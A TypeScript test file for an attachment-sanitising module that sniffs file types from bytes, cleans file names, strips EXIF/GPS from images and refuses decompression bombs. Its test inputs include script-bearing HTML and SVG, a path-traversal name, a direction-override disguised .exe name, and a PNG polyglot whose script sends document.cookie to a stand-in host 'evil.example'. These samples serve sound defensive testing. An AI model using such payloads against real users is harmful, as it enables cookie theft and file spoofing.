// Attachments' first line of defence (issue 33, requirements 1 and 3): what a file is comes from its
// bytes (a lying MIME type, an SVG offered as an image, HTML named .png); names lose paths and
// control characters; images are resized to the provider's limits, stripped of EXIF/GPS and
// re-encoded (a PNG+HTML polyglot comes out a plain PNG); a decompression bomb is refused undecoded.
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { classify, safeFileName, sniff } from './file-kind';
import { fitWithin, imageLimits, imageTokens, ImageRefusedError, prepareImage } from './image-prep';
import { claimedPng } from '@/test/support/hostile-files';

const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } });

describe('what a file is', () => {
  it('comes from its bytes; a lie is noted, an SVG or HTML offered as an image is kept as text', async () => {
    const png = await solid(4, 4).png().toBuffer();
    expect(sniff(png)).toBe('image/png');
    expect(sniff(await solid(4, 4).jpeg().toBuffer())).toBe('image/jpeg');
    expect(sniff(await solid(4, 4).webp().toBuffer())).toBe('image/webp');
    expect(sniff(await solid(4, 4).gif().toBuffer())).toBe('image/gif');
    expect(classify({ name: 'report.pdf', claimedType: 'image/png', bytes: Buffer.from('%PDF-1.7\n...') })).toMatchObject({ kind: 'pdf', mimeType: 'application/pdf', note: 'sent as image/png, but the file is application/pdf' });
    expect(classify({ name: 'photo.png', claimedType: 'image/png', bytes: Buffer.from('<html><script>alert(1)</script></html>') })).toMatchObject({
      kind: 'text',
      mimeType: 'text/plain',
      note: 'sent as image/png, but the file is not an image',
    });
    expect(classify({ name: 'logo.svg', claimedType: 'image/svg+xml', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') })).toMatchObject({
      kind: 'text',
      note: 'an SVG is kept as a file, not shown as an image (it can carry script)',
    });
    expect(classify({ name: 'blob', bytes: Buffer.from([0, 1, 2, 3, 0, 255]) })).toMatchObject({ kind: 'binary', mimeType: 'application/octet-stream' });
    // A name that says otherwise gets the extension of what the bytes are.
    expect(classify({ name: 'invoice.html', claimedType: 'text/html', bytes: png }).name).toBe('invoice.png');
    expect(classify({ name: 'notes.md', bytes: Buffer.from('# Notes\nplain text, ünïcode\n') })).toMatchObject({ kind: 'text', name: 'notes.md' });
  });

  it('has a name without paths, control or direction-override characters, hidden dots or excess length', () => {
    expect(safeFileName('../../etc/passwd')).toBe('passwd');
    expect(safeFileName('C:\\Users\\me\\Desktop\\plan.txt')).toBe('plan.txt');
    expect(safeFileName('evil\u202Egnp.exe')).toBe('evilgnp.exe');
    expect(safeFileName('line\nbreak\u0000.txt')).toBe('linebreak.txt');
    expect(safeFileName('.bashrc')).toBe('bashrc');
    expect(safeFileName('   ')).toBe('file');
    const long = safeFileName(`${'a'.repeat(300)}.jpeg`);
    expect(long).toHaveLength(120);
    expect(long.endsWith('.jpeg')).toBe(true);
  });
});

describe('an image made ready for a model', () => {
  it('a 12-megapixel photo with GPS in its EXIF: resized to the provider’s limits, upright, metadata gone, tokens by the provider’s formula', async () => {
    const photo = await solid(4000, 3000)
      .jpeg()
      .withExif({ IFD0: { Make: 'Camera' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 24/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect(await sharp(photo).metadata()).toMatchObject({ orientation: 6, exif: expect.any(Buffer) });
    const anthropic = await prepareImage(photo, 'anthropic');
    expect(anthropic.mimeType).toBe('image/jpeg');
    // Orientation 6: the 4000 × 3000 photo is portrait once upright.
    expect(anthropic.height).toBeGreaterThan(anthropic.width);
    expect(Math.max(anthropic.width, anthropic.height)).toBeLessThanOrEqual(1568);
    expect(anthropic.width * anthropic.height).toBeLessThanOrEqual(1_150_000);
    expect(anthropic.tokens).toBe(Math.ceil((anthropic.width * anthropic.height) / 750));
    const after = await sharp(anthropic.bytes).metadata();
    expect([after.exif, after.xmp, after.iptc, after.orientation]).toEqual([undefined, undefined, undefined, undefined]);
    const openai = await prepareImage(photo, 'openai_compatible');
    expect(Math.min(openai.width, openai.height)).toBeLessThanOrEqual(768);
    expect(openai.tokens).toBe(imageTokens(openai.width, openai.height, 'openai_compatible'));
  });

  it('limits and formulas as documented', () => {
    expect(fitWithin(4000, 3000, imageLimits.openai_compatible)).toEqual({ width: 1024, height: 768 });
    expect(imageTokens(1024, 768, 'openai_compatible')).toBe(85 + 170 * 4);
    expect(fitWithin(800, 600, imageLimits.anthropic)).toEqual({ width: 800, height: 600 }); // never enlarged
    expect(imageTokens(1000, 1000, 'anthropic')).toBe(1334);
  });

  it('a PNG with HTML after its end comes out a plain PNG; a GIF its first frame as PNG', async () => {
    const png = await solid(64, 64).png().toBuffer();
    const polyglot = Buffer.concat([png, Buffer.from('<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>')]);
    expect(classify({ name: 'cat.png', bytes: polyglot }).kind).toBe('image');
    const cleaned = await prepareImage(polyglot, 'anthropic');
    expect(cleaned.bytes.includes(Buffer.from('<script'))).toBe(false);
    expect(cleaned.bytes.includes(Buffer.from('evil.example'))).toBe(false);
    const gif = await prepareImage(await solid(32, 16).gif().toBuffer(), 'anthropic');
    expect([gif.mimeType, gif.width, gif.height]).toEqual(['image/png', 32, 16]);
  });

  it('a decompression bomb, a truncated image and a non-image are refused with a reason, nothing decoded', async () => {
    await expect(prepareImage(claimedPng(50_000, 50_000), 'anthropic')).rejects.toThrow(ImageRefusedError);
    await expect(prepareImage(claimedPng(50_000, 50_000), 'anthropic')).rejects.toThrow(/pixel limit|megapixels/);
    const jpeg = await solid(400, 300).jpeg().toBuffer();
    await expect(prepareImage(jpeg.subarray(0, 200), 'anthropic')).rejects.toThrow(ImageRefusedError);
    await expect(prepareImage(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'anthropic')).rejects.toThrow(ImageRefusedError);
  });
});
